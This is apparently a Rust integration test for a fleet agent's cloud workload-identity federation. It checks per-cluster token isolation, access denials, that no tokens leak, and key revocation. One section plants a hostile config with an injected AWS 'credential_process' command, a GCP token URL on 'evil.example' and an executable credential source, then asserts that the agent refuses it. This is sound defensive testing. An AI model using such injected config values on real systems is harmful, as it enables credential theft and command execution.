//! Workload identity of a pull cluster: a node gets only its own cluster's
//! tokens, and a store writer cannot redirect them. Skipped when `bao` or
//! the Python peers are missing (a failure when `CI` is set).

mod federation_common;
#[path = "common/mod.rs"]
mod nodes;
mod vault_common;

use std::process::Command;
use std::time::Duration;

use serde_json::{json, Value};

use federation_common::*;
use vault_common::{raw, root, root_put};

#[test]
fn a_node_gets_only_its_cluster_s_tokens_and_a_store_writer_cannot_redirect_them() {
    let Some((server, home, out, py)) = setup(&["gpu", "cpu"], 2) else {
        return;
    };
    let gpu = federate(
        &home,
        &["gpu", "--aws-role-arn", ROLE_ARN, "--token-ttl", "1m"],
    );
    let cpu = federate(&home, &["cpu", "--aws-role-arn", ROLE_ARN]);
    assert_ne!(gpu["subject"], cpu["subject"]);
    let nodes: Vec<Node> = (1..=2)
        .map(|i| Node::start(&out.path().join(format!("gpu/node-{i}.json")), "", &[]))
        .collect();
    for n in &nodes {
        n.wait_files(&["aws.jwt"]);
    }
    let jwks = jwks_url(&server);
    // Two nodes, one subject: the claims are the cluster's (OpenBao gives
    // all logins of one AppRole one entity; there is no per-node claim a
    // node could borrow from another).
    let [c1, c2] = [0, 1].map(|i| {
        let token = nodes[i].identity("aws.jwt");
        verify(&py, &token, &jwks, &gpu, "sts.amazonaws.com", "gpu")
    });
    let keys = |c: &Value| c.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    assert_eq!(keys(&c1), keys(&c2));
    assert_eq!(
        keys(&c1),
        [
            "_alg",
            "aud",
            "cluster",
            "exp",
            "iat",
            "iss",
            "namespace",
            "rh_prefix",
            "sub"
        ]
    );

    // With a gpu node's own store token: its cluster's token, not cpu's;
    // not cpu's federation document; no write to its own.
    let kept: Value = serde_json::from_str(
        &std::fs::read_to_string(nodes[0].path(".rh/agent/pull/token.json")).unwrap(),
    )
    .unwrap();
    let node_token = kept["token"].as_str().unwrap();
    let role = |c: &str| format!("identity/oidc/token/rh-fleet-rh-alice-{c}-aws");
    let (status, body) = raw(&server.url, node_token, "GET", &role("gpu"), None).unwrap();
    assert_eq!(status, 200, "{body}");
    for (method, path, body) in [
        ("GET", role("cpu"), None),
        ("GET", role("cpu").replace("-aws", "-gcp"), None),
        (
            "GET",
            "secret/data/rh/alice/clusters/cpu/federation".to_owned(),
            None,
        ),
        (
            "POST",
            "secret/data/rh/alice/clusters/gpu/federation".to_owned(),
            Some(json!({ "data": { "format": 1 } })),
        ),
        (
            "POST",
            "identity/oidc/role/rh-fleet-rh-alice-gpu-aws".to_owned(),
            Some(json!({ "key": "x" })),
        ),
    ] {
        let (status, body) = raw(&server.url, node_token, method, &path, body).unwrap();
        assert_eq!(status, 403, "{method} {path}: {body}");
    }

    // A store writer (anyone who can write the prefix) rewrites the
    // federation document to point the node's files and SDKs elsewhere:
    // refused as a whole, nothing outside the node's own paths is written,
    // the wiring and the last good token stay.
    let trap = tempfile::tempdir().unwrap();
    let stolen = trap.path().join("stolen.jwt");
    let pwned = trap.path().join("pwned");
    let config_before = std::fs::read_to_string(nodes[0].path(".aws/config")).unwrap();
    let token_before = std::fs::read_to_string(nodes[0].identity("aws.jwt")).unwrap();
    let errors = nodes[0].metric("rh_agent_identity_errors_total");
    let hostile = json!({
        "format": 1,
        "token_ttl_secs": 60,
        "aws": {
            "role_arn": format!("arn:aws:iam::123456789012:role/x\n[profile evil]\ncredential_process = touch {}", pwned.display()),
            "profile": "default",
            "web_identity_token_file": stolen.display().to_string(),
        },
        "gcp": {
            "audience": GCP_AUD,
            "token_url": "https://evil.example/token",
            "credential_source": { "executable": { "command": format!("touch {}", pwned.display()) } },
        },
    });
    root_put(
        &server,
        "secret/data/rh/alice/clusters/gpu/federation",
        hostile,
    );
    wait_for(
        "the hostile document refused",
        Duration::from_secs(90),
        || (nodes[0].metric("rh_agent_identity_errors_total") > errors).then_some(()),
    );
    assert!(!stolen.exists() && !pwned.exists());
    assert_eq!(
        std::fs::read_to_string(nodes[0].path(".aws/config")).unwrap(),
        config_before
    );
    assert_eq!(
        std::fs::read_to_string(nodes[0].identity("aws.jwt")).unwrap(),
        token_before
    );
    let mut files: Vec<String> = std::fs::read_dir(nodes[0].path(".rh/agent/identity"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    assert_eq!(files, ["aws.jwt"]);
    let status: Value =
        serde_json::from_str(&home.ok(&["status", "--cluster", "gpu", "--json"]).stdout).unwrap();
    let errors: Vec<&str> = status["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|n| n["identity"]["last_error"].as_str())
        .collect();
    assert!(
        errors.iter().any(|e| e.contains("federation document")),
        "{status:#}"
    );

    // No token in a log, a report, status or metrics.
    let reports = root(
        &server,
        "LIST",
        "secret/metadata/rh/alice/clusters/gpu/nodes",
        None,
        200,
    );
    let mut texts = vec![
        ("status", home.ok(&["status", "--cluster", "gpu"]).stdout),
        ("status --json", status.to_string()),
    ];
    for id in reports["data"]["keys"].as_array().unwrap() {
        let path = format!(
            "secret/data/rh/alice/clusters/gpu/nodes/{}",
            id.as_str().unwrap()
        );
        texts.push((
            "a report",
            root(&server, "GET", &path, None, 200).to_string(),
        ));
    }
    for n in &nodes {
        texts.push(("an agent log", n.log()));
        texts.push(("metrics", n.request("GET", "/metrics", None).1));
    }
    for n in &nodes {
        assert_no_token(n, &texts);
    }

    // Removing the cluster stops the refresh, and its key leaves the JWKS:
    // the last token no longer verifies.
    let kid = {
        let token = std::fs::read_to_string(nodes[1].identity("aws.jwt")).unwrap();
        let header = token.split('.').next().unwrap().to_owned();
        header
    };
    let errors = nodes[1].metric("rh_agent_identity_errors_total");
    home.ok(&["cluster", "remove", "gpu"]);
    let out = Command::new(&py)
        .arg(PEERS)
        .arg("verify")
        .arg(nodes[1].identity("aws.jwt"))
        .args(["--jwks", &jwks, "--aud", "sts.amazonaws.com"])
        .args(["--issuer", gpu["issuer"].as_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "a removed cluster's token still verifies ({kid})"
    );
    wait_for("the refresh to fail", Duration::from_secs(90), || {
        (nodes[1].metric("rh_agent_identity_errors_total") > errors).then_some(())
    });
    // cpu is untouched.
    root(
        &server,
        "GET",
        "identity/oidc/role/rh-fleet-rh-alice-cpu-aws",
        None,
        200,
    );
}
